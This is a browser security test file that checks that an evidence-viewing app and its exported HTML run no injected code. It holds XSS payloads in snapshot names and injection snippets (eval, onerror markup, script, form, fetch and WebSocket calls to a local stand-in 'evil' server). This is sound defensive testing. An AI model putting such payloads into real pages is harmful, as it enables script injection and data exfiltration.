import { createServer, type Server } from 'node:http'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { texts } from '../../shared/text/index.ts'
import { attendant } from '../helpers/attendant.ts'
import {
  chromiumHere,
  launchBrowser,
  type Opened,
  openApp,
  picture,
  type Served,
  serveApp,
} from '../helpers/browser.ts'
import { writeHostileExports } from '../helpers/hostile-exports.ts'
import { temporaryFolder } from '../helpers/temporary.ts'

const folder = temporaryFolder()
const LOOK = { language: 'en', width: 1366, height: 768, scheme: 'light', contrast: false } as const
const { ui, compare, sessionViews, tables } = texts('en')

/** What the page itself noticed since it was loaded: whether anything ran, and the directives that were violated. */
interface Noticed {
  readonly ran: boolean
  readonly violations: readonly string[]
}
const WATCH = `
  window.__violations = []
  document.addEventListener('securitypolicyviolation', (event) => window.__violations.push(event.effectiveDirective))`
const NOTICED = `({ ran: '__ran' in window, violations: window.__violations })`
const noticed = (page: Page): Promise<Noticed> => page.evaluate(NOTICED)
const CALM: Noticed = { ran: false, violations: [] }

describe.skipIf(chromiumHere === null)('evidence that attacks its reader (skipped without a Chromium)', () => {
  let browser: Browser
  let served: Served
  let opened: Opened
  let page: Page
  let evil: Server
  let evilPort = 0
  const hits: string[] = []
  const dialogs: string[] = []

  beforeAll(async () => {
    const path = join(folder, 'hostile.attendant')
    for (const [hour, state] of (['before', 'after'] as const).entries()) {
      const exports = join(folder, state)
      writeHostileExports(exports, state)
      const taken = new Date(Date.UTC(2011, 2, 28, 8 + hour)).toISOString()
      const name = `${state}<img src=x onerror=window.__ran=11>`
      const more = ['--snapshot', name, '--taken', taken, '--zone', 'Europe/Paris']
      const run = attendant(['import', path, exports, ...more])
      expect(run.code, run.err).toBe(0)
    }
    evil = createServer((request, response) => {
      hits.push(request.url ?? '')
      response.end('window.__ran = 12')
    })
    await new Promise<void>((listening) => evil.listen(0, '127.0.0.1', listening))
    const address = evil.address()
    evilPort = address !== null && typeof address === 'object' ? address.port : 0
    browser = await launchBrowser()
    served = await serveApp(folder, [path, '--lang', 'en'])
    opened = await openApp(browser, served.url, LOOK)
    page = opened.page
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await page.addInitScript(WATCH)
    await page.reload()
    await page.waitForSelector('[data-app-state="loaded"]')
  })
  afterAll(async () => {
    await opened?.context.close()
    await served?.stop()
    await browser?.close()
    evil?.close()
  })

  const calm = async (): Promise<void> => {
    expect(await noticed(page)).toEqual(CALM)
    expect([dialogs, opened.foreign, opened.complaints, hits]).toEqual([[], [], [], []])
  }

  it('[sec 7.11] runs nothing on any screen', async () => {
    for (const digit of ['1', '2', '3', '4', '5', '6', '7', '8', '9']) {
      await page.keyboard.press(`Alt+${digit}`)
      await page.waitForTimeout(400)
      for (const tab of await page.getByRole('tab').all()) {
        if (!(await tab.isVisible())) continue
        await tab.click()
        await page.waitForTimeout(150)
      }
      await calm()
    }
  })

  it('[sec 7.11] shows the texts literally in a grid and its details', async () => {
    await page.keyboard.press('Alt+5')
    await page.getByRole('tab', { name: sessionViews.tabs.tables, exact: true }).click()
    await page.getByRole('tab', { name: tables.names.logons, exact: true }).click()
    const row = page.getByRole('row').filter({ hasText: /__ran/i }).first()
    await row.click()
    await page.keyboard.press('Enter')
    await page.getByRole('row', { name: '<img src=x onerror="window.__ran=2">' }).first().waitFor()
    await picture(page, 'hostile-evidence')
    await calm()
    await page.keyboard.press('Escape')
  })

  it('[sec 7.11] runs nothing in the plan, its HTML document and the comparison', async () => {
    await page.keyboard.press('Alt+7')
    await page.getByRole('button', { name: ui.plan.make }).click()
    await page.getByText(ui.plan.verification).first().waitFor({ timeout: 30_000 })
    await page.keyboard.press('Control+p')
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('menuitem', { name: /HTML/ }).click(),
    ])
    const path = join(folder, 'plan.html')
    await file.saveAs(path)
    const document = await opened.context.newPage()
    const requests: string[] = []
    document.on('request', (request) => requests.push(request.url()))
    document.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await document.addInitScript(WATCH)
    await document.goto(`file://${path}`)
    expect(await document.locator('body').innerText()).toMatch(/__ran/i)
    expect(await noticed(document)).toEqual(CALM)
    expect(requests).toEqual([`file://${path}`])
    expect(await document.locator('script, img, iframe, a[href^="javascript:"]').count()).toBe(0)
    await document.close()
    await page.getByRole('combobox', { name: ui.frame.snapshot, exact: true }).selectOption({ index: 0 })
    await page.keyboard.press('Alt+8')
    await page
      .getByRole('button', { name: /^after<img/ })
      .first()
      .click()
    await page.getByRole('heading', { name: compare.ofArea(compare.findings, compare.findingState.fixed) }).waitFor()
    await calm()
  })

  it.each([
    [
      'an inline script',
      /script|trusted/,
      `document.body.append(Object.assign(document.createElement('script'), {}))
      document.body.lastChild.append('window.__ran = 1')
      const late = document.createElement('script'); late.append('window.__ran = 1'); document.body.append(late)`,
    ],
    ['eval', /script|trusted/, `(0, eval)('window.__ran = 1')`],
    ['a function made of text', /script|trusted/, `new Function('window.__ran = 1')()`],
    [
      'a handler in markup',
      /script|trusted/,
      `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.__ran=1">')`,
    ],
    [
      'a foreign script',
      /script|trusted/,
      `document.body.append(Object.assign(document.createElement('script'), { src: EVIL }))`,
    ],
    ['a foreign image', /^img-src$/, `document.body.append(Object.assign(new Image(), { src: EVIL }))`],
    ['a frame', /^frame-src$/, `document.body.append(Object.assign(document.createElement('iframe'), { src: EVIL }))`],
    [
      'a form',
      /^form-action$/,
      `const form = Object.assign(document.createElement('form'), { action: EVIL, method: 'post' })
      document.body.append(form); form.submit()`,
    ],
    ['a call elsewhere', /^connect-src$/, `fetch(EVIL).catch(() => {})`],
    ['a socket', /^connect-src$/, `new WebSocket(EVIL.replace('http', 'ws'))`],
  ])('[sec 1.7] [sec 3.1] %s put into the page is stopped and counted', async (_what, directive, attack) => {
    const before = (await noticed(page)).violations.length
    // In a timer: what the test driver evaluates itself is outside the policy.
    await page.evaluate(
      `setTimeout(() => { const EVIL = 'http://127.0.0.1:${evilPort}/x'; try { ${attack} } catch {} }, 0); 0`,
    )
    await expect.poll(async () => (await noticed(page)).violations.length, { timeout: 5_000 }).toBeGreaterThan(before)
    const after = await noticed(page)
    expect(after.violations.slice(before).join(' ')).toMatch(directive)
    expect(after.ran).toBe(false)
    expect([dialogs, hits]).toEqual([[], []])
  })
})
